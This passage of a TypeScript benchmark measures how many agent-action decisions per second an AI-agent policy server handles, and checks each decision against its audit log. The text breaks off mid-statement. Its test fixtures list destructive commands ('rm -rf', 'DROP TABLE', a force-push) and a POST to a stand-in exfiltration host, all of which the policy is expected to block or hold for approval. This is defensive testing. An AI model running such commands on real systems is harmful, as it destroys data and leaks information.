/**
 * Control-plane throughput: decisions per second through `POST /v1/decisions` of `redline serve`
 * (the built CLI), each one answered only after its hash-chained audit entry is committed
 * (group commit, `--durability crash`). Goal: ≥ 20,000 decisions/s with keep-alive and
 * concurrent clients.
 *
 *   npm run build && npx tsx bench/decisions.ts     (about 2½ minutes)
 *   npx tsx bench/decisions.ts --quick              (smoke run: 2 s per load, one round)
 *   npx tsx bench/decisions.ts --duration 10 --runs 3 --connections 16,64,128 --pipelining 1,4
 *   npx tsx bench/decisions.ts --cpu-prof DIR       (the server writes a V8 CPU profile to DIR;
 *                                                    each load's window is printed, in the
 *                                                    profile's clock; profiling slows it down)
 *
 * The server is `node bin/redline.js serve` on a free loopback port, with a temp state directory
 * and bench/fixtures/decisions-policy.yaml (four agents, rules, red lines). Tokens for the four
 * agents come from `redline token issue`. The load generator is autocannon (npm), used
 * programmatically in this process (one thread): HTTP/1.1 keep-alive connections, each sending
 * its share of a fixed number of requests (`amount`), cycling through a mix of 20 actions
 * (17 allowed shell, MCP, HTTP and SQL actions, 3 denied, 15%). Server and load generator share
 * the machine's cores; each load's CPU split is printed (from /proc, Linux).
 *
 * Before anything is timed: every action of the mix and a few more (red lines, approvals) get the
 * right decision; a wrong-agent token, no token and bad bodies are refused without a decision;
 * each answered auditSeq is a decision entry with that action hash. After each load, the audit
 * log (opened read-only) must hold exactly one decision entry per request sent (pipelining 1;
 * with pipelining, autocannon closes connections with requests in flight, so: between the
 * answered and the sent), with the mix's allow/deny split. "durable/s" is those entries over
 * the load's wall time. At the end the whole chain verifies, checkpoint signatures included.
 *
 * Group commit: entries per audit transaction are estimated from SQLite's WAL-index header
 * (`iChange` in state.db-shm counts write transactions; the breaker's counter insert of each
 * denial is one more, subtracted). The store's own stats are not visible from outside.
 *
 * Type-check: npx tsc -p bench/tsconfig.json
 */
import { type ChildProcess, spawn } from "node:child_process";
import {
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  readFileSync,
  readSync,
  rmSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import autocannon from "autocannon";
import { readPublicKey } from "../src/audit/keys.js";
import { verifyAuditLog } from "../src/audit/verify.js";
import { openSqliteStore, type SqliteStateStore } from "../src/store/sqlite/open.js";
import { BIN, CLK_TCK, issueToken, ROOT, staleBuild, treeCpuMs } from "./support.js";

const POLICY = path.join(ROOT, "bench/fixtures/decisions-policy.yaml");
const AGENTS = ["coding-agent", "support-bot", "research-agent", "ops-bot"] as const;
type Agent = (typeof AGENTS)[number];
/** Monotonic µs: the clock V8's CPU profiles (startTime, endTime) are on. */
const monoUs = () => process.hrtime.bigint() / 1000n;

const argv = process.argv.slice(2);
const quick = argv.includes("--quick");
const value = (name: string): string | undefined => {
  const i = argv.indexOf(name);
  if (i < 0) return undefined;
  const v = argv[i + 1];
  if (v === undefined || v.startsWith("--")) throw new Error(`${name}: expected a value`);
  return v;
};
const positive = (name: string, fallback: number): number => {
  const v = value(name);
  if (v === undefined) return fallback;
  const n = Number(v);
  if (!Number.isInteger(n) || n <= 0) throw new Error(`${name}: expected a positive integer`);
  return n;
};
const list = (name: string, fallback: number[]): number[] => {
  const v = value(name);
  if (v === undefined) return fallback;
  const ns = v.split(",").map(Number);
  if (ns.some((n) => !Number.isInteger(n) || n <= 0))
    throw new Error(`${name}: expected positive integers separated by commas`);
  return ns;
};
const profileDir = value("--cpu-prof");
const PROFILE = profileDir ? ["--cpu-prof", "--cpu-prof-dir", path.resolve(profileDir)] : [];
const PLAN = {
  /** Seconds each load aims at (requests = the last measured rate × this). */
  duration: positive("--duration", quick ? 2 : 8),
  runs: positive("--runs", quick ? 1 : 2),
  connections: list("--connections", [16, 64, 128]),
  pipelining: list("--pipelining", quick ? [1] : [1, 4]),
  /** `redline serve --workers` values, each its own server on the same state, one after another. */
  workers: list("--workers", quick ? [1] : [1, 2]),
  /** Requests of the warm-up (64 connections), which also calibrates the first loads. */
  warmup: positive("--warmup", quick ? 5_000 : 20_000),
  requestTimeoutS: 10,
  startTimeoutMs: 30_000,
  stopTimeoutMs: 20_000,
};
const CONFIGS = PLAN.pipelining.flatMap((p) => PLAN.connections.map((c) => ({ c, p })));
/** The whole run, start-up and shutdown included; past it everything is killed. */
const RUN_TIMEOUT_MS =
  PLAN.workers.length *
  (180_000 + CONFIGS.length * PLAN.runs * (PLAN.duration * 4 + 30) * 1000 + PLAN.warmup);

// --- the actions ----------------------------------------------------------------------------

type Effect = "allow" | "deny" | "approval";
interface Case {
  action: { agent: Agent; kind: string; [k: string]: unknown };
  expect: Effect;
  /** A rule that must be among the decision's rules; [] when no rule may match (the default). */
  rule?: string | [];
}

/** The load: mostly allowed everyday actions, a few denied. Sessions as agents send them. */
const MIX: Case[] = [
  { action: sh("coding-agent", "ls -la", "/work/app"), expect: "allow", rule: [] },
  { action: sh("coding-agent", "git status && npm test", "/work/app"), expect: "allow" },
  { action: sh("coding-agent", "grep -rn TODO src | head -20", "/work/app"), expect: "allow" },
  { action: sh("coding-agent", "cat src/index.ts", "/work/app"), expect: "allow" },
  { action: sh("coding-agent", "npm run build", "/work/app"), expect: "allow" },
  {
    action: mcp("coding-agent", "filesystem", "read_file", { path: "/work/app/package.json" }),
    expect: "allow",
  },
  {
    action: http("coding-agent", "GET", "https://db.prod.internal/health"),
    expect: "deny",
    rule: "no-prod-hosts-from-coding",
  },
  {
    action: mcp("support-bot", "shop", "get_order", { id: "ord_123" }),
    expect: "allow",
    rule: "support-reads-orders",
  },
  { action: mcp("support-bot", "shop", "get_customer", { id: "c_42" }), expect: "allow" },
  {
    action: mcp("support-bot", "shop", "get_shipping_status", { order: "ord_123" }),
    expect: "allow",
  },
  {
    action: mcp("support-bot", "shop", "delete_customer", { id: "c_42" }),
    expect: "deny",
    rule: "redline.data.destroy",
  },
  {
    action: http("research-agent", "GET", "https://docs.python.org/3/library/json.html"),
    expect: "allow",
    rule: "research-reads-the-web",
  },
  {
    action: {
      ...http("research-agent", "GET", "https://api.example.com/v1/papers?q=agents&page=2"),
      headers: { accept: "application/json" },
    },
    expect: "allow",
  },
  { action: sh("ops-bot", "df -h && uptime", "/srv"), expect: "allow" },
  { action: sh("ops-bot", "systemctl status nginx", "/srv"), expect: "allow" },
  {
    action: mcp("ops-bot", "filesystem", "read_file", { path: "/srv/app/config.yaml" }),
    expect: "allow",
  },
  { action: sql("ops-bot", "SELECT id, status FROM orders WHERE id = 42"), expect: "allow" },
  {
    action: sql("ops-bot", "DROP TABLE users"),
    expect: "deny",
    rule: "redline.data.destroy",
  },
  {
    action: http("ops-bot", "GET", "https://status.example.com/api/v2/status.json"),
    expect: "allow",
  },
  { action: sh("ops-bot", "tail -n 100 /var/log/nginx/access.log", "/srv"), expect: "allow" },
];

/** Checked once each, not part of the load (approvals open requests in the store). */
const EXTRA: Case[] = [
  {
    action: sh("coding-agent", "rm -rf /srv/data", "/work/app"),
    expect: "deny",
    rule: "redline.data.destroy",
  },
  {
    action: sh("coding-agent", "git push --force origin main", "/work/app"),
    expect: "approval",
    rule: "redline.vcs.rewrite",
  },
  {
    action: { ...http("research-agent", "POST", "https://paste.evil.test/x"), body: "notes" },
    expect: "approval",
    rule: "redline.network.egress",
  },
  {
    action: mcp("support-bot", "filesystem", "read_file", { path: "README.md" }),
    expect: "deny",
    rule: [],
  },
];

function session(agent: Agent): string {
  return `${agent.split("-")[0]}-session-1`;
}
function sh(agent: Agent, command: string, cwd: string): Case["action"] {
  return { agent, kind: "shell", command, cwd, session: session(agent) };
}
function mcp(agent: Agent, server: string, tool: string, args: object): Case["action"] {
  return { agent, kind: "mcp", server, tool, arguments: args, session: session(agent) };
}
function http(agent: Agent, method: string, url: string): Case["action"] {
  return { agent, kind: "http", method, url, session: session(agent) };
}
function sql(agent: Agent, statement: string): Case["action"] {
  return { agent, kind: "sql", statement, database: "prod", session: session(agent) };
}

// --- helpers --------------------------------------------------------------------------------

const quote = (s: string) => (/^[\w./:=@,-]+$/.test(s) ? s : `'${s.replace(/'/g, "'\\''")}'`);
const shell = (cmd: readonly string[]) => cmd.map(quote).join(" ");
const rel = (cmd: readonly string[]) =>
  shell(cmd.map((a) => (a === process.execPath ? "node" : a.replace(ROOT, ""))));
const fmt = (n: number) => Math.round(n).toLocaleString("en");
const loadavg = () =>
  os
    .loadavg()
    .map((l) => l.toFixed(2))
    .join(" ");
function pct(sorted: ArrayLike<number>, p: number): number {
  return sorted.length === 0 ? Number.NaN : (sorted[Math.floor((sorted.length - 1) * p)] ?? 0);
}
/** The median; of an even count, the mean of the middle two. */
function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  const m = s.length >> 1;
  if (s.length % 2 === 1) return s[m] ?? Number.NaN;
  return ((s[m - 1] ?? Number.NaN) + (s[m] ?? Number.NaN)) / 2;
}

/** CPU time all processes on the machine have used, in ms (the first line of /proc/stat). */
function machineBusyMs(): number | undefined {
  try {
    const [, ...f] = (readFileSync("/proc/stat", "utf8").split("\n")[0] ?? "").trim().split(/\s+/);
    const n = f.map(Number);
    // user nice system idle iowait irq softirq steal: busy is all but idle and iowait.
    const busy = n.slice(0, 8).reduce((a, b) => a + b, 0) - (n[3] ?? 0) - (n[4] ?? 0);
    return Number.isFinite(busy) ? (busy / CLK_TCK) * 1000 : undefined;
  } catch {
    return undefined;
  }
}

/**
 * Write transactions committed to the state database so far: `iChange` of SQLite's WAL-index
 * header (state.db-shm, native byte order), which every commit increments and a WAL reset keeps.
 */
function walTransactions(state: string): number | undefined {
  try {
    const fd = openSync(path.join(state, "state.db-shm"), "r");
    try {
      const b = Buffer.alloc(12);
      if (readSync(fd, b, 0, 12, 0) < 12) return undefined;
      const le = os.endianness() === "LE";
      const u32 = (at: number) => (le ? b.readUInt32LE(at) : b.readUInt32BE(at));
      return u32(0) === 3007000 ? u32(8) : undefined; // WALINDEX_MAX_VERSION
    } finally {
      closeSync(fd);
    }
  } catch {
    return undefined;
  }
}

interface Server {
  child: ChildProcess;
  base: string;
  stderr: () => string;
  exited: Promise<number | null>;
}

async function startServer(command: string[]): Promise<Server> {
  const [cmd, ...args] = command as [string, ...string[]];
  const child = spawn(cmd, args, { cwd: ROOT, stdio: ["ignore", "ignore", "pipe"] });
  let err = "";
  const exited = new Promise<number | null>((resolve) =>
    child.once("exit", (code) => resolve(code)),
  );
  const base = await new Promise<string>((resolve, reject) => {
    const timer = setTimeout(
      () => reject(new Error(`serve: not listening within ${PLAN.startTimeoutMs} ms\n${err}`)),
      PLAN.startTimeoutMs,
    );
    child.stderr?.on("data", (d: Buffer) => {
      err += d.toString();
      const m = /listening (http:\/\/\S+?\/) /.exec(err);
      if (m?.[1]) {
        clearTimeout(timer);
        resolve(m[1]);
      }
    });
    void exited.then((code) => {
      clearTimeout(timer);
      reject(new Error(`serve exited (${code}) before listening\n${err}`));
    });
  });
  return { child, base, stderr: () => err, exited };
}

async function stopServer(s: Server): Promise<number | null> {
  if (s.child.exitCode !== null) return s.child.exitCode;
  s.child.kill("SIGTERM");
  let timer: NodeJS.Timeout | undefined;
  const code = await Promise.race([
    s.exited,
    new Promise<"timeout">((r) => {
      timer = setTimeout(() => r("timeout"), PLAN.stopTimeoutMs);
    }),
  ]);
  clearTimeout(timer);
  if (code !== "timeout") return code;
  s.child.kill("SIGKILL");
  throw new Error(`serve did not exit within ${PLAN.stopTimeoutMs} ms of SIGTERM: killed`);
}

// --- correctness ----------------------------------------------------------------------------

interface Answer {
  decision?: Effect;
  rules?: string[];
  actionHash?: string;
  auditSeq?: number | null;
  approval?: { id?: string; status?: string };
  error?: string;
}

async function post(base: string, token: string | undefined, body: string) {
  const res = await fetch(`${base}v1/decisions`, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      ...(token ? { authorization: `Bearer ${token}` } : {}),
    },
    body,
    signal: AbortSignal.timeout(PLAN.requestTimeoutS * 1000),
  });
  return { status: res.status, answer: (await res.json()) as Answer };
}

/** Every case decided as expected, refusals refused; returns the decisions answered. */
async function check(base: string, tokens: Record<Agent, string>, ro: SqliteStateStore) {
  const failures: string[] = [];
  const answered: { c: Case; a: Answer }[] = [];
  for (const c of [...MIX, ...EXTRA]) {
    const { status, answer: a } = await post(
      base,
      tokens[c.action.agent],
      JSON.stringify(c.action),
    );
    const what = `${c.action.agent} ${c.action.kind} ${JSON.stringify(c.action.command ?? c.action.tool ?? c.action.url ?? c.action.statement)}`;
    if (status !== 200) {
      failures.push(`${what}: HTTP ${status} ${a.error ?? ""}`);
      continue;
    }
    answered.push({ c, a });
    const rules = a.rules ?? [];
    if (a.decision !== c.expect) failures.push(`${what}: ${a.decision}, expected ${c.expect}`);
    else if (Array.isArray(c.rule) ? rules.length > 0 : c.rule && !rules.includes(c.rule))
      failures.push(`${what}: rules ${JSON.stringify(rules)}, expected ${JSON.stringify(c.rule)}`);
    if (c.expect === "approval" && (a.approval?.status !== "pending" || !a.approval.id))
      failures.push(`${what}: no pending approval request in ${JSON.stringify(a.approval)}`);
    if (typeof a.auditSeq !== "number") failures.push(`${what}: auditSeq ${a.auditSeq}`);
  }
  const ls = JSON.stringify(MIX[0]?.action);
  const refusals: [string, string | undefined, string, number][] = [
    ["another agent's token", tokens["support-bot"], ls, 403],
    ["no token", undefined, ls, 401],
    ["a body that is not JSON", tokens["coding-agent"], "{not json", 400],
    ["an action without a kind", tokens["coding-agent"], '{"agent":"coding-agent"}', 400],
  ];
  for (const [what, token, body, expected] of refusals) {
    const { status } = await post(base, token, body);
    if (status !== expected) failures.push(`${what}: HTTP ${status}, expected ${expected}`);
  }
  // Each answer's auditSeq is the durable decision entry of that very action.
  for (const { c, a } of answered) {
    const [e] = await ro.audit.query({ afterSeq: (a.auditSeq ?? 0) - 1, limit: 1 });
    if (
      !e ||
      e.seq !== a.auditSeq ||
      e.kind !== "decision" ||
      e.actionHash !== a.actionHash ||
      e.decision !== a.decision ||
      e.agent !== c.action.agent
    )
      failures.push(
        `auditSeq ${a.auditSeq}: not the decision entry of ${JSON.stringify(c.action)}`,
      );
  }
  return { failures, answered: answered.length, refusals: refusals.length };
}

// --- the load -------------------------------------------------------------------------------

/** The requests of the mix, in order: each autocannon connection cycles through them. */
function requests(tokens: Record<Agent, string>): autocannon.Request[] {
  return MIX.map((c) => ({
    method: "POST",
    path: "/v1/decisions",
    headers: {
      authorization: `Bearer ${tokens[c.action.agent]}`,
      "content-type": "application/json",
    },
    body: JSON.stringify(c.action),
  }));
}

/**
 * How many of each mix entry `amount` requests over `connections` send: autocannon gives each
 * connection floor(amount / c) (+1 for the first amount % c) and each walks the list from 0.
 */
function expectedPerCase(amount: number, connections: number): number[] {
  const out = MIX.map(() => 0);
  const L = MIX.length;
  for (let i = 0; i < connections; i++) {
    const m = Math.floor(amount / connections) + (i + 1 <= amount % connections ? 1 : 0);
    for (let j = 0; j < L; j++) out[j] = (out[j] ?? 0) + Math.floor(m / L) + (j < m % L ? 1 : 0);
  }
  return out;
}

interface LoadResult {
  label: string;
  connections: number;
  pipelining: number;
  amount: number;
  answered: number;
  non2xx: number;
  errors: number;
  timeouts: number;
  stopped: boolean;
  wallS: number;
  p50: number;
  p99: number;
  serverCpuMs: number | undefined;
  selfCpuMs: number;
  otherCpuMs: number | undefined;
  window: [bigint, bigint];
}

async function load(
  base: string,
  reqs: autocannon.Request[],
  label: string,
  connections: number,
  pipelining: number,
  amount: number,
  serverPid: number | undefined,
): Promise<LoadResult> {
  const times = new Float64Array(amount);
  let n = 0;
  let last = 0;
  let stopped = false;
  const cpu0 = treeCpuMs(serverPid);
  const machine0 = machineBusyMs();
  const self0 = process.cpuUsage();
  const mono0 = monoUs();
  const t0 = performance.now();
  const result = await new Promise<autocannon.Result>((resolve, reject) => {
    const instance = autocannon(
      {
        url: base,
        connections,
        pipelining,
        amount,
        timeout: PLAN.requestTimeoutS,
        requests: reqs,
      },
      (err: unknown, r: autocannon.Result) => {
        clearTimeout(limit);
        if (err) reject(err);
        else resolve(r);
      },
    );
    const limit = setTimeout(
      () => {
        stopped = true;
        instance.stop();
      },
      (PLAN.duration * 4 + 20) * 1000,
    );
    instance.on("response", (_client, _status, _bytes, responseTime) => {
      last = performance.now();
      if (n < amount) times[n++] = responseTime;
    });
  });
  const wallS = ((last || performance.now()) - t0) / 1000;
  const mono1 = monoUs();
  const self = process.cpuUsage(self0);
  const cpu1 = treeCpuMs(serverPid);
  const machine1 = machineBusyMs();
  const sorted = times.subarray(0, n).sort();
  const serverCpuMs = cpu0 === undefined || cpu1 === undefined ? undefined : cpu1 - cpu0;
  const selfCpuMs = (self.user + self.system) / 1000;
  return {
    label,
    connections,
    pipelining,
    amount,
    answered: result["2xx"],
    non2xx: result.non2xx,
    errors: result.errors,
    timeouts: result.timeouts,
    stopped,
    wallS,
    p50: pct(sorted, 0.5),
    p99: pct(sorted, 0.99),
    serverCpuMs,
    selfCpuMs,
    otherCpuMs:
      machine0 === undefined || machine1 === undefined || serverCpuMs === undefined
        ? undefined
        : Math.max(0, machine1 - machine0 - serverCpuMs - selfCpuMs),
    window: [mono0, mono1],
  };
}

/** What the audit log holds between two heads, by kind and decision. */
function windowCounts(ro: SqliteStateStore, after: number, upTo: number) {
  const rows = ro.db
    .prepare(
      "SELECT kind, decision, count(*) AS n FROM audit_entries WHERE seq > ? AND seq <= ? GROUP BY kind, decision",
    )
    .all(after, upTo) as { kind: string; decision: string | null; n: number }[];
  const out = { allow: 0, deny: 0, approval: 0, other: 0, total: 0 };
  for (const r of rows) {
    out.total += r.n;
    if (r.kind === "decision" && (r.decision === "allow" || r.decision === "deny"))
      out[r.decision] += r.n;
    else if (r.kind === "decision" && r.decision === "approval") out.approval += r.n;
    else out.other += r.n;
  }
  return out;
}

/** The head once it has stopped moving (requests a closed connection left in flight land). */
async function settledHead(ro: SqliteStateStore): Promise<number> {
  let head = (await ro.audit.head()).seq;
  for (let i = 0; i < 50; i++) {
    await new Promise((r) => setTimeout(r, 100));
    const now = (await ro.audit.head()).seq;
    if (now === head && i >= 1) return head;
    head = now;
  }
  return head;
}

// --- the run --------------------------------------------------------------------------------

const cpus = os.cpus();
const cores = cpus.length;
const acVersion = (
  JSON.parse(readFileSync(path.join(ROOT, "node_modules/autocannon/package.json"), "utf8")) as {
    version: string;
  }
).version;
console.log(
  `# npx tsx bench/decisions.ts${argv.length ? ` ${shell(argv)}` : ""}  (node ${process.version}, ${cores} CPUs, ${cpus[0]?.model ?? "?"}; load average ${loadavg()})`,
);
console.log(
  `NOTE: the server and the load generator share this machine's ${cores} cores: the load generator's CPU is not the server's to use.`,
);
if ((os.loadavg()[0] ?? 0) > cores / 2)
  console.log(
    `NOTE: load average ${loadavg()} before the run, on ${cores} CPUs: other work competes (see "other" per load).`,
  );
if (!existsSync(path.join(ROOT, "dist/cli/main.js")))
  throw new Error("bin/redline.js needs dist/: run npm run build first");
const stale = staleBuild();
if (stale.length > 0)
  console.log(
    `WARNING: dist/ may be stale: older than (or missing) ${stale.slice(0, 4).join(", ")}${stale.length > 4 ? ` and ${stale.length - 4} more` : ""}; npm run build`,
  );

const tmp = mkdtempSync(path.join(os.tmpdir(), "redline-bench-decisions-"));
const state = path.join(tmp, "state");
let server: Server | undefined;
let ro: SqliteStateStore | undefined;
let failed = false;
const fail = (why: string) => {
  failed = true;
  console.log(`FAILED: ${why}`);
};
const watchdog = setTimeout(() => {
  console.error(`bench/decisions.ts: still running after ${RUN_TIMEOUT_MS / 1000} s: killed`);
  server?.child.kill("SIGKILL");
  process.exit(1);
}, RUN_TIMEOUT_MS);

try {
  const tokens = Object.fromEntries(
    AGENTS.map((a) => [
      a,
      issueToken({ policy: POLICY, state, agent: a, ttl: "60m", timeoutMs: PLAN.startTimeoutMs }),
    ]),
  ) as Record<Agent, string>;
  ro = openSqliteStore({ dir: state, readonly: true });
  const store = ro;
  const counted = { checks: 0, warmup: 0, loads: 0 };
  let best = { rate: 0, workers: 1 };
  for (const workers of PLAN.workers) {
    console.log(`\n# ${workers === 1 ? "one process" : `--workers ${workers}`}`);
    const serveCmd = [
      process.execPath,
      ...PROFILE,
      BIN,
      "serve",
      "--policy",
      POLICY,
      "--state-dir",
      state,
      "--listen",
      "127.0.0.1:0",
      "--durability",
      "crash",
      ...(workers > 1 ? ["--workers", String(workers)] : []),
    ];
    server = await startServer(serveCmd);
    const pid = server.child.pid;
    console.log(
      `server:         ${rel(serveCmd).replace(tmp, "$TMP")}  (pid ${pid}, ${server.base})`,
    );
    if (workers === PLAN.workers[0])
      console.log(
        `load generator: autocannon ${acVersion} (npm), programmatic, in this process (one thread); HTTP/1.1 keep-alive; each load a fixed number of requests (--amount) over C connections, P pipelined per connection; request timeout ${PLAN.requestTimeoutS} s`,
      );
    const denied = MIX.filter((c) => c.expect === "deny").length;
    const kinds = [...new Set(MIX.map((c) => c.action.kind))].join("/");
    if (workers === PLAN.workers[0])
      console.log(
        `mix:            ${MIX.length} actions (${kinds}) of ${AGENTS.length} agents, ${MIX.length - denied} allowed, ${denied} denied (${Math.round((denied / MIX.length) * 100)}%); each connection cycles through them in order`,
      );

    // 1. Correctness before anything is timed.
    const head0 = (await store.audit.head()).seq;
    const c = await check(server.base, tokens, store);
    const headC = await settledHead(store);
    const w = windowCounts(store, head0, headC);
    const decidedC = w.allow + w.deny + w.approval;
    console.log(
      `\n## correctness: ${c.answered} actions decided as expected, ${c.refusals} bad requests refused; audit: ${decidedC} decision entries for ${c.answered} answered (${w.other} other entries: the refused token, the approval requests)`,
    );
    for (const f of c.failures) fail(f);
    if (decidedC !== c.answered) fail(`${decidedC} decision entries for ${c.answered} decisions`);
    if (failed) throw new Error("correctness checks failed: nothing timed");

    // 2. Warm-up (JIT, caches, the file), which also calibrates how many requests a load needs.
    const reqs = requests(tokens);
    const rate = new Map<string, number>();
    const key = (cc: number, p: number) => `${cc}/${p}`;
    let lastRate: number | undefined;
    const warm = await load(server.base, reqs, "warm-up", 64, 1, PLAN.warmup, pid);
    const warmRate = warm.answered / warm.wallS;
    console.log(
      `warm-up: ${fmt(warm.answered)} requests, 64 connections, ${fmt(warmRate)}/s; ${warm.non2xx} non-2xx, ${warm.errors} errors`,
    );
    if (warm.non2xx + warm.errors > 0) throw new Error("the warm-up had failed requests");
    const headW = await settledHead(store);
    const ww = windowCounts(store, headC, headW);
    const warmDecided = ww.allow + ww.deny;
    if (warmDecided !== PLAN.warmup || ww.other + ww.approval > 0)
      fail(`warm-up: ${warmDecided} decision entries for ${PLAN.warmup} requests sent`);

    // 3. The loads: every configuration in each run, odd runs in reverse order (drift spreads).
    console.log(
      `\n## loads (${PLAN.duration} s each, ${PLAN.runs} run(s)); durable/s = decision entries the load added to the audit log ÷ its wall time`,
    );
    console.log(
      "run  conns pipe   requests   answered      req/s  durable/s  p50 ms  p99 ms  non2xx err | entries = sent  allow/deny  | CPU µs/req server  loadgen  other cores | entries/commit",
    );
    interface Row {
      r: LoadResult;
      decided: number;
      durable: number;
      entriesPerCommit: number | undefined;
      serverUs: number | undefined;
    }
    const rows: Row[] = [];
    let head = headW;
    let profileWindows = "";
    for (let run = 1; run <= PLAN.runs; run++) {
      const order = run % 2 === 1 ? CONFIGS : [...CONFIGS].reverse();
      for (const { c: conns, p } of order) {
        const guess = rate.get(key(conns, p)) ?? lastRate ?? warmRate;
        const amount = Math.max(conns * p * 20, Math.round(guess * PLAN.duration));
        const tx0 = walTransactions(state);
        const r = await load(server.base, reqs, `${conns}x${p}`, conns, p, amount, pid);
        const h1 = await settledHead(store);
        const tx1 = walTransactions(state);
        const win = windowCounts(store, head, h1);
        head = h1;
        const decided = win.allow + win.deny;
        rate.set(key(conns, p), r.answered / r.wallS);
        lastRate = r.answered / r.wallS;
        const exp = expectedPerCase(amount, conns);
        const expAllow = MIX.reduce((s, m, i) => s + (m.expect === "allow" ? (exp[i] ?? 0) : 0), 0);
        const expDeny = amount - expAllow;
        // Exact at pipelining 1; with pipelining, requests in flight when a connection closes
        // were sent (and may have been decided) but not answered.
        const exact = p === 1;
        const okCount = exact
          ? decided === amount && win.allow === expAllow && win.deny === expDeny
          : decided >= r.answered &&
            decided <= amount &&
            win.allow <= expAllow &&
            win.deny <= expDeny;
        const problems = [
          r.stopped ? "stopped at the time limit" : "",
          r.non2xx > 0 ? `${r.non2xx} non-2xx` : "",
          r.errors > 0 ? `${r.errors} errors (${r.timeouts} timeouts)` : "",
          exact && r.answered !== amount ? `${r.answered} answered of ${amount}` : "",
          okCount
            ? ""
            : `audit holds ${win.allow} allow + ${win.deny} deny for ${amount} sent (${expAllow} + ${expDeny} expected, ${r.answered} answered)`,
          win.other + win.approval > 0 ? `${win.other + win.approval} unexpected entries` : "",
        ].filter(Boolean);
        // Write transactions in the window: audit commits, plus the breaker's counter insert for
        // each denial (one autocommit each); session facts were all recorded by the checks.
        const txs = tx0 === undefined || tx1 === undefined ? undefined : (tx1 - tx0) >>> 0;
        const auditCommits = txs === undefined ? undefined : txs - win.deny;
        const entriesPerCommit =
          auditCommits !== undefined && auditCommits > 0 ? win.total / auditCommits : undefined;
        const durable = decided / r.wallS;
        const serverUs = r.serverCpuMs === undefined ? undefined : (r.serverCpuMs * 1000) / decided;
        rows.push({ r, decided, durable, entriesPerCommit, serverUs });
        const us = (x: number | undefined) => (x === undefined ? "n/a" : x.toFixed(0));
        console.log(
          `${String(run).padStart(3)} ${String(conns).padStart(6)} ${String(p).padStart(4)} ${fmt(amount).padStart(10)} ${fmt(r.answered).padStart(10)} ${fmt(r.answered / r.wallS).padStart(10)} ${fmt(durable).padStart(10)} ${r.p50.toFixed(2).padStart(7)} ${r.p99.toFixed(2).padStart(7)} ${String(r.non2xx).padStart(7)} ${String(r.errors).padStart(3)} | ${(okCount ? (exact ? "yes" : "in range") : "NO").padStart(14)} ${`${fmt(win.allow)}/${fmt(win.deny)}`.padStart(11)}  | ${us(serverUs).padStart(17)} ${us((r.selfCpuMs * 1000) / decided).padStart(8)} ${(r.otherCpuMs === undefined ? "n/a" : (r.otherCpuMs / 1000 / r.wallS).toFixed(2)).padStart(11)} | ${entriesPerCommit === undefined ? "n/a" : entriesPerCommit.toFixed(1)}`,
        );
        for (const why of problems) fail(`run ${run}, ${conns} connections × ${p}: ${why}`);
        if (profileDir)
          profileWindows += `\n  run ${run} ${r.label}: ${r.window[0]} – ${r.window[1]}`;
      }
    }

    // 4. Summary per configuration, and the goal (judged on pipelining 1: plain keep-alive clients).
    console.log(
      `\n## per configuration (median of runs)${workers > 1 ? `, ${workers} workers` : ""}`,
    );
    for (const { c: conns, p } of CONFIGS) {
      const mine = rows.filter((x) => x.r.connections === conns && x.r.pipelining === p);
      const d = median(mine.map((x) => x.durable));
      if (p === 1 && d > best.rate) best = { rate: d, workers };
      const srv = mine.map((x) => x.serverUs).filter((x): x is number => x !== undefined);
      const busy = mine
        .map((x) =>
          x.r.serverCpuMs === undefined ? undefined : x.r.serverCpuMs / 1000 / x.r.wallS,
        )
        .filter((x): x is number => x !== undefined);
      const epc = mine.map((x) => x.entriesPerCommit).filter((x): x is number => x !== undefined);
      console.log(
        `${workers > 1 ? `${workers} workers, ` : ""}${String(conns).padStart(4)} connections, pipelining ${p}${p > 1 ? " (pipelined: not what agents do)" : ""}: ${fmt(d)} durable decisions/s, p50 ${median(mine.map((x) => x.r.p50)).toFixed(2)} ms, p99 ${median(mine.map((x) => x.r.p99)).toFixed(2)} ms; server ${srv.length ? `${median(srv).toFixed(0)} µs CPU per decision, busy ${median(busy).toFixed(2)} cores` : "CPU n/a"}; ≈ ${epc.length ? median(epc).toFixed(1) : "n/a"} audit entries per transaction`,
      );
    }
    const srvAll = rows.map((x) => x.serverUs).filter((x): x is number => x !== undefined);
    if (srvAll.length)
      console.log(
        `server CPU per decision, median of all loads: ${median(srvAll).toFixed(0)} µs (all its processes): ${workers > 1 ? `its ${workers} event loops, if each had a whole core, would cap it near ${fmt((workers * 1e6) / median(srvAll))}/s` : `one core of this machine caps the server near ${fmt(1e6 / median(srvAll))}/s (it runs one event loop)`}`,
      );
    const genUs = median(rows.map((x) => (x.r.selfCpuMs * 1000) / x.decided));
    const otherCores = median(
      rows
        .filter((x) => x.r.otherCpuMs !== undefined)
        .map((x) => (x.r.otherCpuMs ?? 0) / 1000 / x.r.wallS),
    );
    if (otherCores > 0.25)
      console.log(
        `WARNING: other processes kept ${otherCores.toFixed(2)} cores busy during the loads (median): the numbers are depressed; rerun on a quiet machine`,
      );
    console.log(
      `load generator CPU per request, median: ${genUs.toFixed(0)} µs: at 20,000/s it alone would keep ${((genUs * 20_000) / 1e6).toFixed(2)} of the ${cores} cores busy`,
    );
    if (profileDir)
      console.log(
        `\nCPU profile in ${path.resolve(profileDir)} (server pid ${pid}) when it exits; load windows, monotonic µs:${profileWindows}\nThe numbers above are with the profiler on.`,
      );

    // 5. The server stops (it checkpoints the chain); the whole log is then checked.
    const code = await stopServer(server);
    if (code !== 0) fail(`serve exited with ${code}`);
    counted.checks += decidedC;
    counted.warmup += warmDecided;
    counted.loads += rows.reduce((sum, x) => sum + x.decided, 0);
  }
  console.log(
    `\ngoal ≥ 20,000 durable decisions/s with keep-alive and concurrent clients (pipelining 1): best ${fmt(best.rate)}/s (${best.workers === 1 ? "one process" : `${best.workers} workers`}): ${best.rate >= 20_000 ? "met" : "MISSED"}`,
  );
  const totals = store.db
    .prepare("SELECT kind, count(*) AS n FROM audit_entries GROUP BY kind ORDER BY kind")
    .all() as { kind: string; n: number }[];
  const decisionsTotal = totals.find((t) => t.kind === "decision")?.n ?? 0;
  const { checks: decidedC, warmup: warmDecided, loads: decidedLoads } = counted;
  const v0 = performance.now();
  const report = await verifyAuditLog(store.audit, readPublicKey(state));
  const verifyS = (performance.now() - v0) / 1000;
  console.log(
